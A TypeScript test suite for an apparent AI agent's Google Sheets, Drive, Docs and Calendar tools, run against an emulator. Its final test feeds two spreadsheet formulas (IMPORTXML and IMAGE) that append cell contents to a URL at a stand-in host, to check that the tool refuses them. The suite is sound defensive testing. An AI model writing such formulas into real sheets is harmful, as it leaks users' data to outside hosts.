import { describe, expect, test } from "vitest";
import { addFile, type EmulatedFile } from "../../../test/emulators/google/state.ts";
import { openGoogle } from "../../../test/open-google.ts";
import { openEmbeddedStore, share } from "../../../test/open-test-store.ts";
import type { Scope } from "../../core/principal.ts";
import type { ToolOutput } from "../../core/tool.ts";

const store = share(openEmbeddedStore);
const google = share(() => openGoogle(store()));

const SHEET = "application/vnd.google-apps.spreadsheet";
const DOCUMENT = "application/vnd.google-apps.document";

const byName = (name: string): EmulatedFile | undefined =>
  [...google().state.files.values()].find((file) => file.name === name);

let ana: Promise<Scope> | null = null;
/** Somebody connected, one for all. */
const connected = (): Promise<Scope> => (ana ??= google().connected());

async function ask(name: string, input: object): Promise<ToolOutput> {
  // Who disconnects is not needed any more.
  const scope = name === "google_disconnect" ? await google().connected() : await connected();
  return google().run(name, input, scope);
}

const called = new Set<string>();

/** Each tool: what is there before, its input, and what then is there. */
interface Case {
  readonly tool: string;
  readonly input: () => object;
  readonly check: (text: string) => void;
}

const event = (more: object = {}) => {
  const { state } = google();
  const id = state.nextId();
  state.events.set(id, {
    id,
    calendarId: "primary",
    summary: `event ${id}`,
    start: { dateTime: "2030-03-01T15:00:00Z" },
    end: { dateTime: "2030-03-01T16:00:00Z" },
    attendees: [{ email: `guest-${id}@example.com` }],
    ...more,
  });
  return id;
};
const own = (name: string, more: Partial<EmulatedFile> = {}) =>
  addFile(google().state, { name, isOurs: true, ...more });

let kept = "";
const keep = (id: string): string => (kept = id);
const file = (id = kept) => google().state.files.get(id);

const CASES: readonly Case[] = [
  {
    tool: "google_sheets_create",
    input: () => ({ title: "Budget 2030" }),
    check: (text) => {
      expect(byName("Budget 2030")?.mimeType).toBe(SHEET);
      expect(text).toContain(`https://docs.google.com/spreadsheets/d/${byName("Budget 2030")?.id}`);
    },
  },
  {
    tool: "google_sheets_read",
    input: () => ({
      spreadsheet_id: own("s1", {
        mimeType: SHEET,
        cells: [
          ["a", 1],
          ["b\nc", 2],
        ],
      }).id,
    }),
    check: (text) => expect(text).toBe("Sheet1!A1:Z1000, 2 rows:\na\t1\nb c\t2"),
  },
  {
    tool: "google_sheets_write",
    input: () => ({
      spreadsheet_id: keep(own("s2", { mimeType: SHEET, cells: [["old", "stays"]] }).id),
      range: "A1:A2",
      values: [["new"], [7]],
    }),
    check: () => expect(file()?.cells).toEqual([["new", "stays"], [7]]),
  },
  {
    tool: "google_sheets_append",
    input: () => ({
      spreadsheet_id: keep(own("s3", { mimeType: SHEET, cells: [["one"]] }).id),
      range: "A1:B1",
      values: [["two", true]],
    }),
    check: () => expect(file()?.cells).toEqual([["one"], ["two", true]]),
  },
  {
    tool: "google_sheets_list",
    input: () => {
      own("only-sheet", { mimeType: SHEET });
      return { max_results: 100 };
    },
    check: (text) => {
      expect(text).toContain("only-sheet | Google Sheet");
      expect(text).not.toContain("| text/plain");
    },
  },
  {
    tool: "google_drive_list",
    input: () => {
      addFile(google().state, { name: "Anna's notes", trashed: true });
      addFile(google().state, { name: "Anna's plan" });
      return { query: "Anna's" };
    },
    check: (text) =>
      expect(text).toMatch(/^Anna's plan \| text\/plain \| 0 bytes \| .* \| id g\d+$/),
  },
  {
    tool: "google_drive_upload",
    input: () => ({
      name: "hello.md",
      content: "# Hé\n",
      folder_id: "f1",
      mime_type: "text/markdown",
    }),
    check: () =>
      expect(byName("hello.md")).toMatchObject({
        content: "# Hé\n",
        parents: ["f1"],
        mimeType: "text/markdown",
      }),
  },
  {
    tool: "google_drive_download",
    input: () => ({ file_id: addFile(google().state, { name: "t.txt", content: "words" }).id }),
    check: (text) => expect(text).toMatch(/^t\.txt .*\n\nwords$/),
  },
  {
    tool: "google_drive_create_folder",
    input: () => ({ name: "Folder", parent_id: "f2" }),
    check: () =>
      expect(byName("Folder")).toMatchObject({
        parents: ["f2"],
        mimeType: "application/vnd.google-apps.folder",
      }),
  },
  {
    tool: "google_drive_share",
    input: () => ({ file_id: keep(own("shared").id), email: "ben@example.com", role: "writer" }),
    check: () => {
      expect(file()?.permissions).toEqual([{ emailAddress: "ben@example.com", role: "writer" }]);
      expect(google().state.mail).toContain("shared ben@example.com");
    },
  },
  {
    tool: "google_drive_move",
    input: () => ({ file_id: keep(own("moved", { parents: ["a", "b"] }).id), folder_id: "c" }),
    check: () => expect(file()?.parents).toEqual(["c"]),
  },
  {
    tool: "google_drive_copy",
    input: () => ({
      file_id: addFile(google().state, { name: "of others", content: "x" }).id,
      name: "my copy",
    }),
    check: () => expect(byName("my copy")).toMatchObject({ content: "x", isOurs: true }),
  },
  {
    tool: "google_drive_rename",
    input: () => ({ file_id: keep(own("before").id), name: "after" }),
    check: () => expect(file()?.name).toBe("after"),
  },
  {
    tool: "google_drive_delete",
    input: () => ({ file_id: keep(own("binned").id) }),
    check: () => expect(file()?.trashed).toBe(true),
  },
  {
    tool: "google_drive_delete",
    input: () => ({ file_id: keep(own("gone").id), permanent: true }),
    check: () => expect(file()).toBeUndefined(),
  },
  {
    tool: "google_drive_get_file",
    input: () => ({ file_id: keep(own("looked at", { parents: ["p"] }).id) }),
    check: (text) =>
      expect(text).toMatch(/^looked at .*\nIn folder p\nLink: https:\/\/drive\.google/),
  },
  {
    tool: "google_docs_create",
    input: () => ({ title: "Letter" }),
    check: () => expect(byName("Letter")?.mimeType).toBe(DOCUMENT),
  },
  {
    tool: "google_docs_read",
    input: () => ({ document_id: own("d1", { mimeType: DOCUMENT, content: "# Top\nline\n" }).id }),
    check: (text) => expect(text).toBe("d1\n\n# Top\nline\nleft\tright\n"),
  },
  {
    tool: "google_docs_write",
    input: () => ({
      document_id: keep(own("d2", { mimeType: DOCUMENT, content: "a" }).id),
      text: "b",
    }),
    check: () => expect(file()?.content).toBe("ab"),
  },
  {
    tool: "google_calendar_list_events",
    input: () => ({ time_min: "2030-03-01T16:00", query: keep(event()) }),
    check: (text) =>
      expect(text).toBe(
        `2030-03-01T15:00:00Z to 2030-03-01T16:00:00Z | event ${kept} | 1 invited | id ${kept}`,
      ),
  },
  {
    tool: "google_calendar_get_event",
    input: () => ({ event_id: event({ description: "Bring cake" }) }),
    check: (text) => expect(text).toMatch(/guest-g\d+@example\.com \(no answer\)\n\nBring cake$/),
  },
  {
    tool: "google_calendar_create_event",
    input: () => ({
      summary: "Lunch",
      start: "2030-04-01T12:00",
      end: "2030-04-01T13:00:00+02:00",
      attendees: ["ben@example.com"],
    }),
    check: () => {
      const made = [...google().state.events.values()].find(({ summary }) => summary === "Lunch");
      expect(made).toMatchObject({
        start: { dateTime: "2030-04-01T12:00:00", timeZone: "Europe/Berlin" },
        end: { dateTime: "2030-04-01T13:00:00+02:00" },
      });
      expect(google().state.mail).toContain("invited ben@example.com");
    },
  },
  {
    tool: "google_calendar_update_event",
    input: () => ({ event_id: keep(event()), start: "2030-05-01", end: "2030-05-02" }),
    check: () =>
      expect(google().state.events.get(kept)).toMatchObject({
        summary: `event ${kept}`,
        start: { date: "2030-05-01", dateTime: null },
      }),
  },
  {
    tool: "google_calendar_delete_event",
    input: () => ({ event_id: keep(event()) }),
    check: () => {
      expect(google().state.events.has(kept)).toBe(false);
      expect(google().state.mail).toContain(`cancelled guest-${kept}@example.com`);
    },
  },
  {
    tool: "google_calendar_list_calendars",
    input: () => ({}),
    check: (text) =>
      expect(text).toBe(
        "Ana (main) | id ana@example.com | owner | UTC\nHolidays | id holidays | reader | UTC",
      ),
  },
  {
    tool: "google_connect",
    input: () => ({}),
    check: (text) =>
      expect(text).toMatch(/^http:\/\/clara\.test\/oauth\/google\/start\/[\w-]{43}\n/),
  },
  {
    tool: "google_status",
    input: () => ({}),
    check: (text) =>
      expect(text).toBe(
        "Connected as ana@example.com. Allowed: Google Calendar, Google Drive, Google Sheets, Google Docs.",
      ),
  },
  {
    tool: "google_disconnect",
    input: () => ({}),
    check: (text) => {
      expect(text).toContain("taken back at Google");
      expect([...google().state.grants.values()].at(-1)?.isRevoked).toBe(true);
    },
  },
];

describe("Google's tools", () => {
  test.each(CASES.map((each) => [each.tool, each] as const))(
    "%s",
    async (name, { input, check }) => {
      called.add(name);
      const { text, isError = false } = await ask(name, input());

      expect({ isError, text }).toEqual({ isError: false, text });
      check(text);
    },
  );

  test("are 27, and each was called above", () => {
    expect(
      google()
        .tools.map(({ name }) => name)
        .toSorted(),
    ).toEqual([...called].toSorted());
    expect(called.size).toBe(27);
  });

  test("what Google says is marked as others' words, and what changes something there asks first", async () => {
    const scope = await connected();
    const output = await google().run("google_calendar_list_calendars", {}, scope);

    expect(output.taints).toEqual([{ source: "google", name: "Google Calendar" }]);
    const changing = google().tools.filter(({ name }) =>
      /_(?:create|write|append|upload|share|move|copy|rename|delete|update)/.test(name),
    );
    expect(changing).toHaveLength(15);
    expect(changing.filter(({ effect, explain }) => effect !== "outside" || !explain)).toEqual([]);
  });

  test("lists go on page after page, and say where the next begins", async () => {
    const { state, run } = google();
    state.maxPage = 2;
    for (let index = 0; index < 7; index++) addFile(state, { name: `many-${index}` });
    const scope = await connected();

    const first = await run("google_drive_list", { query: "many-", max_results: 5 }, scope);
    const token = /page_token "([^"]+)"/.exec(first.text)?.[1];
    const rest = await run("google_drive_list", { query: "many-", page_token: token }, scope);
    state.maxPage = 100;

    const names = `${first.text}\n${rest.text}`.match(/many-\d/g);
    expect(names).toEqual(Array.from({ length: 7 }, (_, index) => `many-${index}`));
  });

  test("a list that is cut says before its lines where the next begins, also where a page is empty", async () => {
    const { state, run } = google();
    const scope = await connected();
    for (let index = 0; index < 150; index++)
      addFile(state, { name: `long-${index} ${"x".repeat(300)}` });
    for (let index = 0; index < 3; index++) addFile(state, { name: `rare-${index}` });

    const long = await run("google_drive_list", { query: "long-", max_results: 100 }, scope);
    state.maxPage = 0;
    const empty = await run("google_drive_list", { query: "rare-" }, scope);
    state.maxPage = 100;

    expect(long.text).toMatch(/^\[There is more: call again with page_token "[^"]+"\.\]\nlong-0 /);
    expect(long.text).toContain("[Cut here:");
    expect(empty.text).toMatch(/^\[There is more: call again with page_token "[^"]+"\.\]\nNothing/);
  });

  test.each(["google_drive_list", "google_sheets_list", "google_calendar_list_events"])(
    "%s gives no more at once than can be shown",
    (name) => {
      const input = google().tools.find((tool) => tool.name === name)?.input;

      expect(input?.safeParse({ max_results: 100 }).success).toBe(true);
      expect(input?.safeParse({ max_results: 101 }).success).toBe(false);
    },
  );

  test.each([
    ["google_docs_read", "document_id", DOCUMENT, "left\tright\n"],
    ["google_drive_download", "file_id", "text/plain", ""],
  ])("%s gives a long text part by part, all of it", async (name, key, mimeType, end) => {
    const { state, run } = google();
    const scope = await connected();
    const content = Array.from({ length: 9_000 }, (_, index) => `${index}😀`).join("");
    const { id } = addFile(state, { name: "long", mimeType, content });
    const parts: string[] = [];
    let offset: number | null = 0;

    while (offset !== null && parts.length < 10) {
      const { text } = await run(name, { [key]: id, offset }, scope);
      expect(text.length).toBeLessThanOrEqual(20_000);
      const next = /call again with offset (\d+)/.exec(text)?.[1];
      offset = next === undefined ? null : Number(next);
      parts.push(text.slice(text.indexOf("\n\n") + 2));
    }
    const beyond = await run(name, { [key]: id, offset: 900_000 }, scope);

    expect(parts.length).toBeGreaterThan(2);
    expect(parts.every((part) => part.isWellFormed())).toBe(true);
    expect(parts.join("")).toBe(content + end);
    expect(beyond.text).toMatch(/There is nothing from there on: it has \d+ characters/);
  });

  test("what is no text goes with the answer as a file", async () => {
    const { state, run } = google();
    const { id } = addFile(state, { name: "a.pdf", mimeType: "application/pdf", content: "%PDF" });

    const output = await run("google_drive_download", { file_id: id }, await connected());

    expect(output.files).toMatchObject([{ name: "a.pdf", contentType: "application/pdf" }]);
    expect(Buffer.from(output.files?.[0]?.content ?? []).toString()).toBe("%PDF");
  });

  test.each(['=IMPORTXML("https://x.test/?"&A1,"/")', ' =image("https://x.test/"&B2)'])(
    "a formula that would fetch an address is not written: %s",
    async (formula) => {
      const { id, cells } = own("victim", { mimeType: SHEET });
      const input = { spreadsheet_id: id, range: "A1", values: [[formula]] };

      const output = await google().run("google_sheets_write", input, await connected());

      expect(output).toMatchObject({ isError: true, text: expect.stringContaining("not written") });
      expect(cells).toEqual([]);
    },
  );
});
